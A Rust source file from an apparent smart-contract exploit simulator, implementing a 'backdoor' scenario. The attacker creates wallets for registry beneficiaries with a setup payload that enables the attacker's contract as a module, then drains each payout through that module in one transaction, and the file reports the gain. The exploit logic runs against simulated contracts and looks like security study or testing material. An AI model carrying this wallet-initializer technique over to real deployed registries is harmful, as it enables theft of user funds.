//! Registry backdoor: wallets created on behalf of every beneficiary, each one enabling the
//! attacker as a module during setup, then emptied through that module. One transaction.

use super::{ExploitPlan, ExploitStep, ScenarioReport};
use crate::abi;
use crate::core::{Principal, Timestamp};
use crate::protocols::registry::RegistrySettings;
use crate::protocols::wallet::WalletFactory;
use crate::utils::config::SimConfig;
use crate::world::{CallSequence, World};
use alloy::primitives::{Address, Bytes, U256};
use anyhow::{ensure, Context};
use std::sync::Arc;

pub const SCENARIO: &str = "backdoor";
pub const GENESIS_TIME: Timestamp = 1_700_000_000;

pub const DEPLOYER: Address = Address::repeat_byte(0xde);
pub const ATTACKER: Address = Address::repeat_byte(0xa7);
pub const BENEFICIARIES: [Address; 4] = [
    Address::repeat_byte(0xb1),
    Address::repeat_byte(0xb2),
    Address::repeat_byte(0xb3),
    Address::repeat_byte(0xb4),
];

#[derive(Debug, Clone)]
pub struct BackdoorSetup {
    pub world: World,
    pub template: Address,
    pub factory: Address,
    pub registry: Address,
    pub attack_contract: Address,
    pub wallets: Vec<Address>,
    pub payout: U256,
}

/// Setup payload that enables `module` on the wallet being created.
pub fn module_enabling_initializer(owner: Principal, template: Address, module: Address) -> Bytes {
    abi::wallet_setup(
        vec![owner],
        1,
        template,
        abi::wallet_enable_module(module),
        Address::ZERO,
    )
}

pub fn assemble(config: &SimConfig) -> anyhow::Result<BackdoorSetup> {
    config.validate().context("backdoor scenario config")?;
    let mut world = World::new(GENESIS_TIME);
    let token = world.token();
    let template = world.deploy_wallet_template(DEPLOYER);
    let factory = world.deploy_factory(DEPLOYER);
    let registry = world.deploy_registry(
        DEPLOYER,
        RegistrySettings {
            admin: DEPLOYER,
            template,
            factory,
            payout: config.payout_amount,
            delegation_check: config.delegation_check,
        },
        &BENEFICIARIES,
    );
    let funding = config
        .payout_amount
        .checked_mul(U256::from(BENEFICIARIES.len()))
        .context("registry funding overflows")?;
    world.mint(registry, funding).context("fund registry")?;

    let attack_contract = world.predict_address(ATTACKER);
    let mut calls = Vec::with_capacity(BENEFICIARIES.len() * 2);
    let mut wallets = Vec::with_capacity(BENEFICIARIES.len());
    for (nonce, beneficiary) in BENEFICIARIES.iter().enumerate() {
        let salt_nonce = U256::from(nonce);
        let initializer = module_enabling_initializer(*beneficiary, template, attack_contract);
        let wallet = WalletFactory::wallet_address(factory, template, &initializer, salt_nonce);
        calls.push((
            factory,
            U256::ZERO,
            abi::factory_create_with_callback(template, initializer, salt_nonce, registry),
        ));
        calls.push((
            wallet,
            U256::ZERO,
            abi::wallet_exec_from_module(
                token,
                U256::ZERO,
                abi::token_transfer(ATTACKER, config.payout_amount),
            ),
        ));
        wallets.push(wallet);
    }
    let deployed = world.deploy_actor(ATTACKER, Arc::new(CallSequence::new(calls)));
    ensure!(
        deployed == attack_contract,
        "attack contract landed at {deployed:#x}, expected {attack_contract:#x}"
    );

    Ok(BackdoorSetup {
        world,
        template,
        factory,
        registry,
        attack_contract,
        wallets,
        payout: config.payout_amount,
    })
}

pub fn plan(setup: &BackdoorSetup) -> ExploitPlan {
    ExploitPlan::new(vec![ExploitStep::call(
        "create and drain beneficiary wallets",
        ATTACKER,
        setup.attack_contract,
        Bytes::new(),
    )])
}

pub fn run(config: &SimConfig) -> anyhow::Result<ScenarioReport> {
    let mut setup = assemble(config)?;
    let plan = plan(&setup);
    let attacker_before = setup.world.balance_of(ATTACKER);
    let registry_before = setup.world.balance_of(setup.registry);

    let run = plan.execute(&mut setup.world);

    let gain = setup
        .world
        .balance_of(ATTACKER)
        .saturating_sub(attacker_before);
    let loss = registry_before.saturating_sub(setup.world.balance_of(setup.registry));
    let report = ScenarioReport::from_run(SCENARIO, &plan, run, gain, loss);
    tracing::info!(
        "[SCENARIO] {} outcome={:?} gain={} check={}",
        SCENARIO,
        report.outcome,
        report.attacker_gain,
        config.delegation_check.as_str()
    );
    Ok(report)
}
